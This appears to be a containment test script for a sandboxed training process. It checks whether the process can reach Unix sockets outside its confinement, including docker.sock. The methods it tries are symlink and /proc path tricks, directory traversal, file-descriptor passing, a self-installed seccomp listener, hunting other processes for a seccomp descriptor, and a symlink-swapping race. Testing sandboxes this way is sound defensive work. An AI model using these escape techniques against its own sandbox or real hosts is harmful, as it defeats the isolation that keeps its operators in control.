# expect: honest
# Somebody outside connects for training: can that be turned to a socket outside, or can training answer in its place?
import ctypes
import os
import socket
import struct
import threading
import time

import hostile
import honest

outside, abstract = hostile.target["unix"], hostile.target["abstract"]
folder, name = os.path.split(outside)
libc = ctypes.CDLL(None, use_errno=True)


def connect(path):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    return path


def passed():
    """A file that only names the socket is passed to oneself, and asked for by the name that it has then."""
    named = os.open(outside, os.O_PATH)
    a, b = socket.socketpair()
    socket.send_fds(a, [b"x"], [named])
    return connect(f"/proc/self/fd/{socket.recv_fds(b, 1, 1)[1][0]}")


def own_listener():
    """A filter of one's own whose calls one answers oneself."""
    program = struct.pack("HBBI", 0x06, 0, 0, 0x7FC00000)
    code = ctypes.create_string_buffer(program)
    header = struct.pack("HxxxxxxQ", 1, ctypes.addressof(code))
    return hostile.call({"x86_64": 317, "aarch64": 277}[os.uname().machine], 1, 8, ctypes.create_string_buffer(header)) >= 0


def stolen():
    """The file descriptor at which such calls are answered, in any process."""
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            for number in os.listdir(f"/proc/{process}/fd"):
                if "seccomp" in os.readlink(f"/proc/{process}/fd/{number}"):
                    return process
        except OSError:
            continue
    return None


def race():
    """What is asked for changes while it is being looked at: in memory, and on the way to it."""
    os.mkdir("sockets")
    inside = socket.socket(socket.AF_UNIX)
    inside.bind("sockets/" + name)
    inside.listen(100)
    addresses = [struct.pack("H108s", 1, p) for p in ((os.getcwd() + "/sockets/" + name).encode(), outside.encode(), b"\0" + abstract.encode())]
    memory, end = ctypes.create_string_buffer(addresses[0], 110), time.time() + 1

    def flip():
        while time.time() < end:
            for address in addresses:
                ctypes.memmove(memory, address, 110)

    def swap():
        while time.time() < end:
            os.rename("sockets", "aside")
            os.symlink(folder, "sockets")
            os.unlink("sockets")
            os.rename("aside", "sockets")

    def drain():
        inside.settimeout(2)
        try:
            while True:
                inside.accept()[0].close()
        except OSError:
            pass

    threads = [threading.Thread(target=f) for f in (flip, swap, drain)]
    for t in threads:
        t.start()
    out = inward = 0
    while time.time() < end:
        s = socket.socket(socket.AF_UNIX)
        if libc.connect(s.fileno(), memory, 110) == 0:
            out, inward = out + (s.getpeername() in (outside, b"\0" + abstract.encode())), inward + 1
        s.close()
    for t in threads:
        t.join()
    print("connected inside", inward)
    return out


os.symlink(outside, "link.sock")
os.symlink(folder, "folder")
for path in ["link.sock", os.path.abspath("link.sock"), "folder/" + name, "/proc/self/root" + outside, "/proc/self/cwd/link.sock",
             os.getcwd() + "/" + "../" * 20 + outside[1:], "\0" + abstract, "/var/run/docker.sock", "/proc/self/root/run/docker.sock"]:
    hostile.attempt(path, lambda: connect(path))
hostile.attempt("hard link", lambda: os.link(outside, "hard.sock") or True)
hostile.attempt("rename", lambda: os.rename(outside, "moved.sock") or True)
hostile.attempt("bind outside", lambda: socket.socket(socket.AF_UNIX).bind(folder + "/mine.sock") or True)
hostile.attempt("passed to oneself", passed)
hostile.attempt("a listener of one's own", own_listener)
hostile.attempt("somebody's listener", stolen)
hostile.attempt("race", race)
honest.train()
